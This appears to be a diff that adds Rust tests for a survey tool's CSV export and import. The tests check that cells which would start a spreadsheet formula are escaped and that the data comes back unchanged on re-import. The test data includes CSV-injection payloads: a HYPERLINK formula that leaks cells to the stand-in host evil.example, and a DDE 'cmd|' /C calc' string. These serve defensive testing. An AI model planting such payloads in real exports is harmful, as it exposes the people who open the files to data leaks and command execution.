@@ -1,0 +1,322 @@
+//! Files in and out stay harmless (issue 11): CSV exports cannot start a spreadsheet
+//! formula yet import back unchanged, a program reads contacts only inside its folder and
+//! never prints another file's content, a file mixing two encodings is refused with its line,
+//! and contact fields have size limits. Expected values are written here by hand.
+
+use ecoute::store::{
+    Answer, Attributes, NewInvitation, NewResponse, StoredResponse, WaveKey, WavePlan,
+};
+use jiff::Timestamp;
+use serde_json::{Value, json};
+
+use crate::harness::Project;
+use crate::support::{TestDb, both_backends};
+
+/// The first characters a spreadsheet reads as the start of a formula (OWASP).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// The link that leaks a row's cells to another site when a call centre opens the file.
+const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&A2&B2,"Voir")"#;
+
+/// A fresh database of the same backend as `db`.
+async fn same_backend(db: &TestDb) -> TestDb {
+    if db.dir.is_some() {
+        TestDb::sqlite()
+    } else {
+        TestDb::postgres().await
+    }
+}
+
+fn attributes(value: Value) -> Attributes {
+    value.as_object().cloned().expect("an object")
+}
+
+fn number(question: &str, n: f64) -> Answer {
+    Answer {
+        question_id: question.into(),
+        ordinal: 0,
+        num_value: Some(n),
+        choice: None,
+        text_value: None,
+    }
+}
+
+fn text(question: &str, t: &str) -> Answer {
+    Answer {
+        question_id: question.into(),
+        ordinal: 0,
+        num_value: None,
+        choice: None,
+        text_value: Some(t.into()),
+    }
+}
+
+/// A `livraison` response of November 2026, as the web form or the API would store it.
+fn delivery(i: i64, external_id: &str, email: &str, why: &str, respondent: Value) -> NewResponse {
+    NewResponse {
+        submitted_at: Timestamp::from_second(1_793_746_800 + i).expect("time"),
+        respondent: Some(attributes(respondent)),
+        external_id: Some(external_id.into()),
+        answers: vec![
+            number("recommandation", 3.0),
+            number("satisfaction", 2.0),
+            text("pourquoi", why),
+        ],
+        ..crate::reports::response(email, "", 3, None)
+    }
+}
+
+/// What must survive a round trip, without the row ids of one database.
+fn comparable(r: &StoredResponse) -> Value {
+    json!({
+        "external_id": r.external_id,
+        "email": r.email,
+        "channel": r.channel,
+        "period": r.period,
+        "submitted_at": r.submitted_at.to_string(),
+        "respondent": r.respondent,
+        "answers": r.answers.iter().map(|a| json!([a.question_id, a.ordinal, a.num_value, a.choice, a.text_value])).collect::<Vec<_>>(),
+    })
+}
+
+fn read_csv(path: &std::path::Path) -> Vec<Vec<String>> {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_path(path)
+        .expect("an export");
+    reader
+        .records()
+        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// No data cell starts a formula, unless it is a number ecoute wrote itself.
+fn assert_no_formula(rows: &[Vec<String>]) {
+    for row in &rows[1..] {
+        for cell in row {
+            let starts_formula = cell.starts_with(FORMULA_STARTS);
+            assert!(
+                !starts_formula || cell.parse::<f64>().is_ok(),
+                "live formula {cell:?} in {row:?}"
+            );
+        }
+    }
+}
+
+fn column<'r>(rows: &'r [Vec<String>], name: &str) -> Vec<&'r str> {
+    let index = rows[0]
+        .iter()
+        .position(|h| h == name)
+        .unwrap_or_else(|| panic!("no column {name} in {:?}", rows[0]));
+    rows[1..].iter().map(|r| r[index].as_str()).collect()
+}
+
+both_backends!(responses_export_neutralises_formulas_and_imports_back_unchanged);
+
+/// Each formula character in a text answer, an attribute, an email and an external id comes
+/// out with a leading `'`, a genuine leading `'` is doubled, numbers stay as they are, and the
+/// import of the export stores exactly what was exported.
+async fn responses_export_neutralises_formulas_and_imports_back_unchanged(db: TestDb) {
+    let twin = same_backend(&db).await;
+    let source = Project::example().database(db);
+    let store = source.store().await;
+    let mut originals = Vec::new();
+    for (i, c) in FORMULA_STARTS.iter().enumerate() {
+        let why = match c {
+            // The answer rules trim open answers: these two characters live in attributes.
+            '\t' | '\r' => format!("plain {i}"),
+            _ => format!("{c}1+2 raison {i}"),
+        };
+        let email = match c {
+            '=' | '+' | '-' => format!("{c}client{i}@example.org"),
+            _ => format!("client{i}@example.org"),
+        };
+        originals.push(delivery(
+            i as i64,
+            &format!("{c}ext-{i}"),
+            &email,
+            &why,
+            json!({"note": format!("{c}cmd|' /C calc'!A0"), "solde": -3, "code": "-3"}),
+        ));
+    }
+    originals.push(delivery(
+        10,
+        "'quoted-id",
+        "'apostrophe@example.org",
+        HYPERLINK,
+        json!({"note": "'déjà vu", "solde": -2.5, "code": "''=1+1"}),
+    ));
+    originals.push(delivery(
+        11,
+        "plain-id",
+        "plain@example.org",
+        "rien à signaler",
+        json!({"note": "normal", "solde": 4, "code": "A-3"}),
+    ));
+    for response in &originals {
+        store
+            .insert_response(response)
+            .await
+            .expect("store")
+            .expect("new");
+    }
+
+    let livraison = ["--program", "fidelite-clients", "--survey", "livraison"];
+    source
+        .args(["responses", "export"])
+        .args(livraison)
+        .args(["-o", "export.csv"])
+        .success();
+    let rows = read_csv(&source.join("export.csv"));
+    assert_eq!(rows.len(), 1 + originals.len());
+    assert_no_formula(&rows);
+    assert_eq!(
+        column(&rows, "pourquoi")[6],
+        r#"'=HYPERLINK("http://evil.example/?d="&A2&B2,"Voir")"#
+    );
+    assert_eq!(
+        column(&rows, "note"),
+        [
+            "'=cmd|' /C calc'!A0",
+            "'+cmd|' /C calc'!A0",
+            "'-cmd|' /C calc'!A0",
+            "'@cmd|' /C calc'!A0",
+            "'\tcmd|' /C calc'!A0",
+            "'\rcmd|' /C calc'!A0",
+            "''déjà vu",
+            "normal",
+        ]
+    );
+    assert_eq!(
+        column(&rows, "solde"),
+        ["-3", "-3", "-3", "-3", "-3", "-3", "-2.5", "4"],
+        "numbers stay numbers"
+    );
+    assert_eq!(
+        column(&rows, "code")[0],
+        "'-3",
+        "a text that looks like a number is text"
+    );
+    assert_eq!(column(&rows, "code")[6], "'''=1+1");
+    assert_eq!(column(&rows, "response_id")[0], "'=ext-0");
+    assert_eq!(column(&rows, "email")[2], "'-client2@example.org");
+
+    let target = Project::example().database(twin);
+    std::fs::copy(source.join("export.csv"), target.join("export.csv")).expect("copy");
+    target
+        .args(["responses", "import"])
+        .args(livraison)
+        .args(["export.csv"])
+        .success()
+        .stdout_has("8 responses imported");
+    let imported = target
+        .store()
+        .await
+        .survey_responses("fidelite-clients", "livraison")
+        .await
+        .expect("responses");
+    let exported = store
+        .survey_responses("fidelite-clients", "livraison")
+        .await
+        .expect("responses");
+    let before: Vec<Value> = exported.iter().map(comparable).collect();
+    let after: Vec<Value> = imported.iter().map(comparable).collect();
+    assert_eq!(after, before);
+}
+
+both_backends!(call_lists_neutralise_formulas_and_import_back_unchanged);
+
+/// Contact fields copied into a call list are neutralised the same way, and the filled-in
+/// list imports back with the contact's fields unchanged.
+async fn call_lists_neutralise_formulas_and_import_back_unchanged(db: TestDb) {
+    let project = Project::example().database(db);
+    let store = project.store().await;
+    let contact_data = json!({
+        "first_name": HYPERLINK,
+        "region": "@SUM(A1:A9)",
+        "appels_mois": -2,
+        "note": "'à rappeler",
+        "tel": "+33612345678",
+    });
+    let due = Timestamp::from_second(1_793_746_800).expect("time");
+    store
+        .materialise_wave(
+            &WaveKey {
+                program_id: "fidelite-clients".into(),
+                survey_id: "centre-contacts".into(),
+                channel_id: "relance-telephone".into(),
+                period: "2026-11".into(),
+                wave: 1,
+            },
+            &WavePlan {
+                sample_id: "appelants-du-mois".into(),
+                seed: 1,
+                program_sha256: None,
+                planned_at: due,
+            },
+            &[NewInvitation {
+                email: "=evil@example.org".into(),
+                locale: Some("fr".into()),
+                contact_data: attributes(contact_data.clone()),
+                due_at: due,
+            }],
+        )
+        .await
+        .expect("wave");
+    project
+        .args(["calls", "export", "--program", "fidelite-clients"])
+        .args([
+            "--survey",
+            "centre-contacts",
+            "--channel",
+            "relance-telephone",
+        ])
+        .args(["--period", "2026-11", "-o", "appels.csv"])
+        .success();
+    let rows = read_csv(&project.join("appels.csv"));
+    assert_no_formula(&rows);
+    assert_eq!(
+        column(&rows, "first_name"),
+        [r#"'=HYPERLINK("http://evil.example/?d="&A2&B2,"Voir")"#]
+    );
+    assert_eq!(column(&rows, "region"), ["'@SUM(A1:A9)"]);
+    assert_eq!(column(&rows, "appels_mois"), ["-2"]);
+    assert_eq!(column(&rows, "note"), ["''à rappeler"]);
+    assert_eq!(column(&rows, "tel"), ["'+33612345678"]);
+    assert_eq!(column(&rows, "email"), ["'=evil@example.org"]);
+
+    // The call centre fills in the answers and sends the file back.
+    let mut filled = csv::Writer::from_path(project.join("rempli.csv")).expect("file");
+    for (n, row) in rows.iter().enumerate() {
+        let mut row = row.clone();
+        if n > 0 {
+            for (name, value) in [
+                ("submitted_at", "2026-11-05"),
+                ("resolu", "oui"),
+                ("effort", "6"),
+            ] {
+                let index = rows[0].iter().position(|h| h == name).expect("column");
+                row[index] = value.to_owned();
+            }
+        }
+        filled.write_record(&row).expect("row");
+    }
+    filled.flush().expect("flush");
+    drop(filled);
+    project
+        .args(["responses", "import", "--program", "fidelite-clients"])
+        .args(["--survey", "centre-contacts", "rempli.csv"])
+        .success()
+        .stdout_has("1 responses imported");
+    let stored = store
+        .survey_responses("fidelite-clients", "centre-contacts")
+        .await
+        .expect("responses");
+    assert_eq!(stored.len(), 1);
+    assert_eq!(stored[0].email.as_deref(), Some("=evil@example.org"));
+    assert_eq!(stored[0].channel, "relance-telephone");
+    assert_eq!(
+        stored[0].respondent.clone().map(Value::Object),
+        Some(contact_data)
+    );
+}
